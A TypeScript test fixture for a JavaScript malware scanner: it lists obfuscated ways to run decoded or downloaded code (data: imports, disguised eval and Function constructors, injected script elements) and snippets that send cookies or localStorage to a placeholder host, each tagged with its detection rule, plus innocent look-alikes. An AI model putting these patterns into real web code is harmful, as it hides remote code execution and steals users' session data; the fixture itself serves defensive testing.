import type { RuleId } from '../../src/checks/ruleset.ts';

/** Ways to hide code in JavaScript, each with the rule that finds it. */
export const hiddenOnTheWeb: readonly (readonly [way: string, rule: RuleId, code: string])[] = [
  ['an import of data', 'web-import-data', 'await import("data:text/javascript;base64,YWxlcnQoMSk=")'],
  ['an import of a blob', 'web-import-data', 'import(URL.createObjectURL(new Blob([text])))'],
  ['a worker of data', 'web-import-data', 'new Worker("data:text/javascript,postMessage(1)")'],
  [
    'a script element with decoded text',
    'web-script-decoded',
    'const s = document.createElement("script");\ns.text = atob("eA==");\ndocument.head.append(s)',
  ],
  [
    'a script element with downloaded text',
    'web-script-decoded',
    'const s = document.createElement("script");\ns.textContent = await (await fetch("https://a.io")).text();',
  ],
  [
    'a script of another server',
    'web-script-element',
    'const s = document.createElement("script");\ns.src = "https://a.io/x.js";',
  ],
  ['a static import of data', 'web-import-data', 'import "data:text/javascript,alert(1)"'],
  ['an import from data', 'web-import-data', 'export * from "data:text/javascript,export default 1"'],
  [
    'an import of data in a variable',
    'web-import-data',
    'const u = "data:text/javascript,alert(1)";\nimport(u)',
  ],
  [
    'an import of a blob in a variable',
    'web-import-data',
    'const u = URL.createObjectURL(new Blob([text]));\nimport(u)',
  ],
  [
    'a script element of data',
    'web-import-data',
    'const s = document.createElement("script");\ns.src = "data:text/javascript,alert(1)";',
  ],
  [
    'a script element with a node of decoded text',
    'web-script-decoded',
    'const s = document.createElement("script");\ns.append(document.createTextNode(atob("eA==")))',
  ],
  [
    'a script element with decoded text of a variable',
    'web-script-decoded',
    'const t = atob("eA==");\nconst s = document.createElement("script");\ns.text = t',
  ],
  [
    'a script element with the text of an answer',
    'web-script-decoded',
    'fetch("https://a.io").then((r) => r.text()).then((t) => { const s = document.createElement("script"); s.text = t; })',
  ],
  [
    'a script of another server by setAttribute',
    'web-script-element',
    'const s = document.createElement("script");\ns.setAttribute("src", "//a.io/x.js");',
  ],
  ['an import from another server', 'web-script-element', 'import {\n  a,\n} from "https://a.io/x.js";'],
  ['eval that is not called by its name', 'web-exec-decoded', '(0, eval)(atob("eA=="))'],
  ['eval by its name in a string', 'web-exec-decoded', 'window["eval"](atob("eA=="))'],
  ['the constructor of a function', 'web-exec-decoded', '[].constructor.constructor(atob("eA=="))()'],
  ['a text that is turned round', 'web-exec-decoded', 'eval(")1(trela".split("").reverse().join(""))'],
  ['another name of eval', 'web-exec-decoded', 'const e = eval;\ne(atob("eA=="))'],
  ['another name of atob', 'web-exec-decoded', 'const d = atob;\neval(d("eA=="))'],
  ['an optional call', 'web-exec-decoded', 'eval?.(atob("eA=="))'],
  ['remarks between', 'web-exec-decoded', 'eval/**/(atob/**/("eA=="))'],
  ['eval.call', 'web-exec-decoded', 'eval.call(null, atob("eA=="))'],
  ['Reflect.construct', 'web-exec-decoded', 'Reflect.construct(Function, [atob("eA==")])()'],
  ['eval of the page', 'web-exec-decoded', 'window.eval(atob("eA=="))'],
  ['eval behind a remark', 'web-exec-decoded', '/* a */ eval(atob("eA=="))'],
  ['eval in a template behind slashes', 'web-exec-decoded', 'x = `\n// ${eval(atob("eA=="))}`'],
  ['eval in an attribute', 'web-exec-decoded', 'e.setAttribute("onclick", "eval(atob(\'eA==\'))")'],
  [
    'the text of an answer in two steps',
    'web-exec-downloaded',
    'const r = await fetch(u);\nconst t = await r.text();\neval(t)',
  ],
  [
    'the text of an answer',
    'web-exec-downloaded',
    'const r = await fetch(u);\nnew Function(await r.text())()',
  ],
  ['the text of a request', 'web-exec-downloaded', 'const t = x.responseText;\nx.fetch();\neval(t)'],
  [
    'a script of an address in a variable',
    'web-script-element',
    'const u = "https://a.io/x.js";\nconst s = document.createElement("SCRIPT");\ns.src = u;',
  ],
  [
    'an import of an address in a variable',
    'web-script-element',
    'const u = "https://a.io/x.js";\nimport(u)',
  ],
  [
    'a script element with downloaded text of a variable',
    'web-script-decoded',
    'const t = await (await fetch("https://a.io")).text();\nconst s = document.createElement("script");\ns.textContent = t;',
  ],
  ['cookies in an address without a scheme', 'web-data-sent', 'fetch("//a.io/?" + document.cookie)'],
  ['cookies by their name', 'web-data-sent', 'fetch("https://a.io/;?" +\n  document["cookie"])'],
  [
    'a copy of what is kept',
    'web-data-sent',
    'fetch("https://a.io", { body: JSON.stringify({ ...localStorage }) })',
  ],
  [
    'cookies over a web socket',
    'web-data-sent',
    'const w = new WebSocket("wss://a.io/x");\nw.onopen = () => w.send(document.cookie);',
  ],
  [
    'cookies in the address of a web socket',
    'web-data-sent',
    'new WebSocket("wss://a.io/?" + document.cookie);',
  ],
  [
    'what is kept by an old request',
    'web-data-sent',
    'const x = new XMLHttpRequest();\nx.open("POST", "https://a.io/x");\nx.send(JSON.stringify(localStorage));',
  ],
  [
    'cookies in the address of an old request',
    'web-data-sent',
    'x.open("GET", "https://a.io/?c=" + document.cookie);',
  ],
  [
    'cookies to an address in a variable',
    'web-data-sent',
    'const u = "https://a.io/";\nfetch(u, { method: "POST", body: document.cookie });',
  ],
  ['cookies in parts', 'web-data-sent', 'fetch("https://a.io/?" + document["coo" + "kie"])'],
  ['eval in parts', 'web-exec-decoded', 'window["ev" + "al"](atob("eA=="))'],
  [
    'the constructor of a function by its name',
    'web-exec-decoded',
    '[]["constructor"]["constructor"](atob("eA=="))()',
  ],
  [
    'the constructor of a method by its name',
    'web-exec-decoded',
    '[]["filter"]["constructor"](atob("eA=="))()',
  ],
  ['the constructor of an arrow', 'web-exec-decoded', '(() => {}).constructor(atob("eA=="))()'],
];

/** What resembles it, and finds nothing at all. */
export const innocentOnTheWeb: Readonly<Record<string, string>> = {
  'an import of the host': 'import { app } from "/scripts/app.js";\nimport("./x.js")',
  'an address': 'export const API = "https://a.io/v1";\nimport x from "./x.js";',
  'a picture beside a script element':
    'const i = document.createElement("img");\ni.src = "https://a.io/a.png";\nconst s = document.createElement("script");\ns.src = "./own.js";',
  'a worker of a blob': 'const u = URL.createObjectURL(new Blob([text]));\nnew Worker(u);',
  'a script in a remark': '<!-- <script src="https://a.io/x.js"></script> -->',
  'cookies beside a request':
    'fetch("https://api.github.com/a").then((r) => r.json());\nfunction get(n) { return document.cookie.split(n); }',
  'a cookie beside an address': 'location.href = "https://a.io";\ndocument.cookie = "theme=" + t;',
  'a cookie beside a picture': 'img.src = "https://a.io/a.png"\ndocument.cookie = "seen=1"',
  'a remark on eval': '// never do eval(atob(x))',
  'a remark on eval behind code': 'run(a); // never do eval(atob(x))',
  'a long remark on eval': '/**\n * Never do eval(atob(x)).\n */',
  'a list of texts': 'const BAD = ["a", "eval(atob(\'x\'))"];',
  'a method of another object': 'math.eval(atob(x));\neditor.Function(atob(x));',
  'an answer that is read':
    'const r = await fetch("/api");\nconst t = await r.text();\nshow(t);\nsetTimeout(f, 1);',
  'an element of an address':
    'const u = "https://a.io/a.png";\nconst s = document.createElement("img");\ns.src = u;',
  'a web socket of the host':
    'const w = new WebSocket(`ws://${location.host}/ws`);\nw.send(JSON.stringify({ a: 1 }));\ndocument.cookie.split(";");',
  'a web socket beside what is kept':
    'const w = new WebSocket("wss://a.io/x");\nw.send("hello");\nconst all = JSON.stringify(localStorage);',
  'an old request to the host with a cookie':
    'const x = new XMLHttpRequest();\nx.open("GET", "https://a.io/x");\nx.send();\nconst y = new XMLHttpRequest();\ny.open("GET", "/api");\ny.send(document.cookie);',
  'an object of the same class':
    'const b = new this.constructor(atob(x));\nconst n = b["constructor"]["name"];',
  'a text in parts': 'const t = "ev" + "ent";\nlabel(t + atob(x));',
};

/** The same in the prose of a page. */
export const innocentPages: Readonly<Record<string, string>> = {
  'code in a page': '<html><script src="a.js"></script>\n<pre>eval(atob("x"))</pre>\n</html>',
};
